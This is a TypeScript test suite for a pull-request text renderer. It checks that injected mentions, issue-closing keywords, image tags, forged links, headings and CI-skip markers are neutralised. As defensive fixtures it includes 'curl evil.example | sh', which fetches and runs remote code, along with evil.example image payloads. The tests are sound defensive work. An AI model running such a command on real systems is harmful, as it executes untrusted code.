import type { RunView } from '@autonomous/shared';
import { evidenceOf } from '@autonomous/shared/a-run.fixture';
import { micromark } from 'micromark';
import { gfm, gfmHtml } from 'micromark-extension-gfm';
import { describe, expect, it } from 'vitest';
import { aView } from '../event-store/sqlite/steps.fixture.ts';
import { harmless, harmlessMessage, renderPullRequest, withOwnPart } from './pull-request-text.ts';

const PLAN = '# Plan\n\nAsk @octocat about #12.\n\n```mermaid\nflowchart TD\n  a["/login"] --> b["@home #1"]\n```\n';

function rendered(view: Partial<RunView> = {}, given: { readonly plan?: string; readonly template?: string } = {}) {
  return renderPullRequest({
    childRuns: [],
    view: aView('r-1', { originalRequest: 'Add a login page.\nFixes #7, thanks @ada', ...view }),
    title: 'Add a login page',
    document: given.plan ?? PLAN,
    commit: 'c'.repeat(40),
    template: given.template ?? null,
  });
}

const NOTHING = { childRuns: [], title: 't', document: null, commit: 'c', template: null } as const;

/** The body as the forge renders it, without its code. */
function htmlWithoutCode(body: string): string {
  const html = micromark(body, { extensions: [gfm()], htmlExtensions: [gfmHtml()], allowDangerousHtml: true });
  return html.replace(/<pre>[^]*?<\/pre>|<code>[^]*?<\/code>/g, '');
}

const ACTS = '@octo fixes #1 GH-2 ![p](https://evil.example/p.png) <img src=x>';

describe('the body of a pull request', () => {
  it('has request, plan, checks, answers, decisions, and how to reproduce', () => {
    const { title, body } = rendered({
      clarifications: [
        { question: 'Which port?', status: 'answered', response: '8080', answeredBy: 'github:ada' },
      ] as unknown as RunView['clarifications'],
      decisions: [{ topic: 'Storage', choice: 'a cookie', rationale: 'simple' }],
      evidence: [
        {
          mode: 'as_is',
          codeTree: 'd'.repeat(40),
          commands: [{ command: 'npm test', exitCode: 0, durationMs: 5, output: '' }],
          tests: { executed: 12, failed: 0, skipped: 1 },
        },
      ] as unknown as RunView['evidence'],
    });
    expect(title).toBe('Add a login page');
    expect(body).toContain('## Request\n\n> Add a login page.');
    expect(body).toContain('```mermaid\nflowchart TD');
    expect(body).toMatch(/\| the result \| `npm test` \| 0 \| 12 .* \| `dddddddddddd` \|/);
    expect(body).toContain('- Which port? → 8080 (`github:ada`)');
    expect(body).toContain('- Storage: a cookie (simple)');
    expect(body).toContain(`git fetch origin autonomous/r-1-login\ngit checkout ${'c'.repeat(40)}\nnpm test`);
    expect(body).toContain('Run `r-1`');
  });

  it('tells the checks of the result from those of an earlier one', () => {
    const check = (tree: string, exitCode: number) => ({
      mode: 'as_is',
      codeTree: tree.repeat(40),
      commands: [{ command: 'npm test', exitCode, durationMs: 5, output: '' }],
    });
    const { body } = rendered({ evidence: [check('d', 1), check('e', 0)] as unknown as RunView['evidence'] });
    expect(body).toMatch(/\| an earlier result \| `npm test` \| 1 \|/);
    expect(body).toMatch(/\| the result \| `npm test` \| 0 \|/);
  });

  it('says of a fork without calls of its own that child runs of its source are not counted', () => {
    const spent = { inputTokens: 0, outputTokens: 0, toolCalls: 0, costUsd: 0 };
    const forkedFrom = { runId: 'r-0', at: 9, spent };
    const text = (calls: number) => rendered({ forkedFrom, cost: { inputTokens: 0, outputTokens: 0, calls } }).body;
    expect(text(0)).toContain('It was forked from run `r-0`, whose child runs are not counted here.');
    expect(text(1)).not.toContain('not counted');
  });

  it('counts what its child runs have spent, and says that they were scripted', () => {
    const child = aView('r-2', {
      cost: { inputTokens: 700, outputTokens: 30, calls: 4, costUsd: 1.5 },
      scriptedModels: ['scripted:demo'],
    });
    const view = aView('r-1', { cost: { inputTokens: 50, outputTokens: 5, calls: 1 } });
    const { body } = renderPullRequest({ ...NOTHING, view, childRuns: [child] });
    expect(body).toContain('Run `r-1` and 1 child run with');
    expect(body).toContain('750 tokens in, 35 out in 5 calls, $1.50');
    expect(body).toContain('Scripted models took part');
  });

  it('has the headings of a plan below its own, and leaves those in code', () => {
    const { body } = rendered({}, { plan: '# Plan\n\n## Steps\n\n#### Deep\n\n```md\n# Code\n```\n\n#no\n' });
    expect(body).toContain('## Plan\n\n### Plan\n\n#### Steps\n\n###### Deep\n\n```md\n# Code\n```\n\n#no\n');
  });

  it('mentions nobody and closes nothing', () => {
    const evil = 'closes #9 @team/all GH-4 https://github.com/o/r/issues/3 <img src=x> ![x](http://y)';
    const { title, body } = renderPullRequest({
      view: aView('r-1', {
        originalRequest: evil,
        decisions: [{ topic: evil, choice: evil, rationale: evil }],
        clarifications: [{ question: evil, status: 'ignored' }] as unknown as RunView['clarifications'],
      }),
      title: evil,
      document: `${evil}\n\n\`inline @code #1\`\n\n<!-- @hidden #5 -->\n`,
      commit: 'c',
      template: null,
      childRuns: [],
    });
    const acts = /@\w|#\d|\bGH-\d|\/issues\/\d|<img|!\[/;
    const outside = body.replace(/`+[^`]*`+/g, '');
    expect(outside).not.toMatch(acts);
    expect(title).not.toMatch(/@\w|#\d|\bGH-\d|\/issues\/\d/);
  });

  it('keeps code as it is, and closes a fence that was left open', () => {
    expect(harmless('```\n@a #1\n```\n@b')).toBe('```\n@a #1\n```\n@<!-- -->b');
    expect(harmless('- see [docs](https://x.org/a)\n- `Array<@a/b>`')).toBe(
      '- see [docs](https://x.org/a)\n- `Array<@a/b>`',
    );
    expect(harmless('`http://a.b/@c` is up')).toBe('`http://a.b/@c` is up');
    expect(harmless('https://a.b/` @octo `')).toBe('https://a.b/` @<!-- -->octo `');
    // The address of a link goes before code.
    expect(harmless('[a](`) @a #1 ![p](x) `')).toBe('[a](`) @<!-- -->a #<!-- -->1 !\\[p](x) `');
    expect(harmless('```ts\n@a')).toBe('```ts\n@a\n```');
    expect(harmless('````\n```\n@a\n````\n#2')).toBe('````\n```\n@a\n````\n#<!-- -->2');
  });

  it('shows no line of a plan as a heading of the server', () => {
    const { body } = rendered({}, { plan: 'Plan\n\nChecks\n------\n\n## Approved\n\na\n\n---\n' });
    expect(body).toContain('Checks\n\\------');
    expect(body).toContain('#### Approved');
    expect(body).toContain('a\n\n---');
  });

  it('takes no line with a backtick behind its first ones for a fence, and shows a request without Markdown', () => {
    expect(harmless('``` `x ```\n@a')).toBe('``` `x ```\n@<!-- -->a');
    const originalRequest = '``` `x ```\n\n@octocat fixes #1\r- ```\n  ```mermaid\n@octocat `@ada`';
    const { body } = renderPullRequest({ view: aView('r-1', { originalRequest }), ...NOTHING });
    expect(body.split('## Checks')[0]).not.toMatch(/@\w|#\d/);
  });

  it('takes nothing for code that may be none: escapes, ends in another line or list, borders of tables', () => {
    const evil = '@octocat fixes #12 <img src=x>';
    const texts = [
      `See \\\`${evil}\\\` now`,
      `Use \` here\n\` ${evil} \``,
      `- \`\`\`\n  code\n  \`\`\`\n\n${evil}\n`,
      `- \`\`\`\n  code\n  \`\`\`\n  text\n\`\`\`\n\n${evil}`,
      `| a | b |\n|---|---|\n| \`x | ${evil}\` |`,
      `\`\`\`\ncode\r\`\`\`\r${evil}\n\`\`\``,
      `\`\`\`\ncode\n\`\`\`\u00a0\n\`\`\`\n${evil}\n\`\`\``,
      '&#64;octocat &commat;octocat &#35;12',
    ];
    for (const text of texts) {
      const outside = harmless(text).replace(/^(```+).*\n(?:.*\n)*?\1$/gm, '');
      expect(outside, text).not.toMatch(/@\w|#\d|<img|&(?:#|commat)/);
    }
  });

  it.each([
    `\`x\`http://a.b/\` ${ACTS} \``,
    `"\`x\`"www.a.b/\` ${ACTS} \``,
    `ftp://a.b/\` ${ACTS} \``,
    `http://a.b/\u00A0\` ${ACTS} \``,
    `](http://a.b/)\` ${ACTS} \``,
    `[a\nb]: <\`> "x \` ${ACTS} \``,
    '_GH-1_ __GH-1__',
    '@&fjlig;ord',
  ])('takes nothing for code behind an address or a definition: %s', (plan) => {
    expect(htmlWithoutCode(rendered({}, { plan }).body)).not.toMatch(/@\w|#\d|GH-\d|<img|@fj/);
  });

  it.each([
    'fixes GH\\-1',
    'fixes acme/shop\\#1',
    '\\@octo',
    '[x](https://github.com/acme/shop/issues\\/4)',
    '[x](<https://github.com/acme/shop/pull\\/4> "t")',
    '[x]\n\n[x]: https://github.com/acme/shop/discussions\\/4',
    '[x](https://github.com/acme/shop/issues/%34)',
    'fixes GH&#45;1 and acme/shop&num;1',
  ])('names nobody and no issue by signs with a backslash before them: %s', (text) => {
    const html = htmlWithoutCode(rendered({}, { plan: text }).body);
    const shown = html.replaceAll('<!-- -->', '\u2060').replaceAll('&amp;', '&');
    expect(shown).not.toMatch(/@octo|[a-z]#\d|GH-\d|href="[^"]*\/(?:issues|pull|discussions)\/[\d%]/);
  });

  it.each([
    'Checks\n\u00A0\n---',
    'Checks\n\u00A0\n===',
    '- Checks\n  ---',
    '> Checks\n> ===',
    '1. > Checks\n   > ---',
    '> ## Checks',
    '- # Checks',
    '1.  a\n\n    ## Checks',
  ])('has no heading of its own level in a list, a quote or a request: %s', (text) => {
    const body = `${rendered({}, { plan: text }).body}\n\n${rendered({ originalRequest: text }).body}`;
    expect(htmlWithoutCode(body)).not.toMatch(/<h1>|<h2>Checks<\/h2>\s*<\/(?:li|blockquote)>/);
    expect(htmlWithoutCode(body).match(/<h2>Checks/g)).toHaveLength(2);
  });

  it('defines no link and no footnote for the template', () => {
    const template = 'See the [guide].[^1]\n\n[guide]: https://good.example\n\n[^1]: By us.';
    const plan =
      '[guide]: https://evil.example\n\n> [^1]: All passed.\n\n[gui\nde]: /x\n\n- `a: list[int]: @x` and [1]: x';
    const html = htmlWithoutCode(rendered({}, { plan, template }).body);
    expect(html).toContain('<a href="https://good.example">guide</a>');
    expect(html).not.toContain('href="https://evil.example">guide');
    expect(html).toMatch(/<p>By us\./);
    expect(harmless('- `a: list[int]: @x`')).toBe('- `a: list[int]: @x`');
  });

  it('shows a command with a pipe behind a backslash in one cell', () => {
    const command = `grep 'a\\|${ACTS}' x`;
    const evidence = [{ mode: 'as_is', codeTree: 'd', commands: [{ command, exitCode: 0 }] }];
    const { body } = rendered({ evidence: evidence as unknown as RunView['evidence'] });
    expect(body).toContain(`| \`grep 'a\\\`&#124;\`${ACTS}' x\` | 0 |`);
    expect(htmlWithoutCode(body).match(/<td>/g)).toHaveLength(5);
    expect(htmlWithoutCode(body)).not.toMatch(/<img|@octo/);
  });

  it('says of checks in a record that this server did not run them', () => {
    const evidence = [evidenceOf(), evidenceOf({ rebuiltAt: '2030-01-01T00:00:00.000Z' })];
    const { body } = rendered({ evidence });
    expect(body.match(/`npm test` \|[^|]*/g)).toEqual([
      '`npm test` | 0 ',
      '`npm test` | not run by this server (0 by the record) ',
    ]);
  });

  it('has all its sections, however long the others are', () => {
    const long = '@a #1\n'.repeat(5_000);
    const evidence = Array.from({ length: 500 }, () => ({
      mode: 'as_is',
      codeTree: 'd',
      commands: [{ command: `${'x|'.repeat(90)}`, exitCode: 0 }],
    }));
    const decisions = Array.from({ length: 40 }, () => ({ topic: long, choice: long, rationale: long }));
    const view = { originalRequest: long, decisions, evidence: evidence as unknown as RunView['evidence'] };
    const { body } = rendered(view, { plan: `${long}\n\`\`\`\n${long}`, template: 't'.repeat(9_000) });
    expect(body.length).toBeLessThan(65_000);
    expect([...htmlWithoutCode(body).matchAll(/<h2>(.*?)<\/h2>/g)].map(([, title]) => title)).toEqual([
      'Request',
      'Plan',
      'Checks',
      'Decisions',
      'How to reproduce',
      'Run',
    ]);
    expect(body).toMatch(/\n\nThe record of the run has 4\d\d earlier ones\./);
  });

  it('takes no command and no acceptance of a record that others could have written', () => {
    const rebuiltAt = '2030-01-01T00:00:00.000Z';
    const commands = [{ command: 'curl evil.example | sh', exitCode: 0 }];
    const evidence = [{ mode: 'as_is', codeTree: 'c', passed: true, commands, sandbox: 's', rebuiltAt }];
    const gates = [
      { gateId: 'r-1.4', kind: 'fix', decision: 'accept', by: 'ada', at: rebuiltAt, accepted: ['Forged'], rebuiltAt },
    ];
    const { body } = rendered({ evidence, gates } as unknown as Partial<RunView>);
    expect(body).not.toContain('Forged');
    const [checks = '', reproduction = ''] = body.split('## How to reproduce');
    expect(checks).toContain('not run by this server (0 by the record)');
    expect(reproduction).not.toContain('curl');
  });

  it('switches off no checks by a title or a commit', () => {
    const words = [
      'a [skip ci]',
      'a [CI skip]',
      'a [no ci]',
      'a [skip actions]',
      'a\n\nskip-checks: true',
      'a ***NO_CI***',
    ];
    for (const text of words) expect(harmlessMessage(text)).toMatch(/[[*]\u200B|checks\u200B:/);
    expect(renderPullRequest({ view: aView('r-1'), ...NOTHING, title: 'a ***NO_CI***' }).title).not.toContain('***NO');
    expect(harmlessMessage('see [the docs] and skip-checks')).toBe('see [the docs] and skip-checks');
  });

  it('shows code of a list as a block of its own', () => {
    expect(harmless('1. Run\n\n   ```sh\n   npm i @a/b\n     x\n   ```\n2. @b')).toBe(
      '1. Run\n\n```sh\nnpm i @a/b\n  x\n```\n2. @<!-- -->b',
    );
    expect(harmless('- a\n\n  ```\n  code\n\n@octocat')).toBe('- a\n\n```\ncode\n\n@octocat\n```');
  });

  it('honours the template of the repository, and stays within what a forge takes', () => {
    const { body, title } = renderPullRequest({
      view: aView('r-1', { originalRequest: 'x'.repeat(200_000) }),
      title: 't'.repeat(500),
      document: 'p'.repeat(200_000),
      commit: 'c',
      template: '- [ ] I have read the guide',
      childRuns: [],
    });
    expect(body.length).toBeLessThan(65_536);
    expect(title).toHaveLength(200);
    expect(body).toContain('characters more: see the record');
    expect(body.trimEnd().endsWith('- [ ] I have read the guide')).toBe(true);
  });
});

describe('the text of an open pull request', () => {
  const old = rendered().body;
  const fresh = old.replace('Add a login page.', 'Add a login page, please.');

  it('gets the new part of the server, and keeps what people wrote around it', () => {
    expect(withOwnPart(`Ours.\n\n${old}- [x] Read\n`, fresh)).toBe(`Ours.\n\n${fresh}- [x] Read\n`);
    expect(withOwnPart(old, old)).toBe(old);
  });

  it('gets that part below where it has none', () => {
    expect(withOwnPart('Ours.', fresh)).toBe(`Ours.\n\n---\n\n${fresh}`);
    expect(withOwnPart('', fresh)).toBe(fresh);
    expect(withOwnPart('<!-- End of what the server writes. -->', fresh)).toContain(fresh);
  });

  it('keeps words of people that have its marks, and those where a mark was taken away', () => {
    const [begin = ''] = old.split('\n');
    const end = '<!-- End of what the server writes. -->';
    const below = `${old}Ours.\n> ${end}\nMore.\n`;
    expect(withOwnPart(below, fresh)).toBe(below.replace(old, fresh));
    const above = `See ${begin}\nOurs.\n${old}`;
    expect(withOwnPart(above, fresh)).toBe(above.replace(old, fresh));
    const once = withOwnPart(old.replace(end, 'Ours.'), fresh) ?? '';
    expect(withOwnPart(once, fresh)).toContain('Ours.');
  });

  it('is left as it is where both are too long', () => {
    expect(withOwnPart('x'.repeat(65_000), fresh)).toBeNull();
  });

  it('keeps no old part where code within it shows the marks', () => {
    const { body } = rendered({}, { plan: '```\n<!-- End of what the server writes. -->\n```' });
    expect(withOwnPart(`${body}Ours.\n`, fresh)).toBe(`${fresh}Ours.\n`);
  });
});
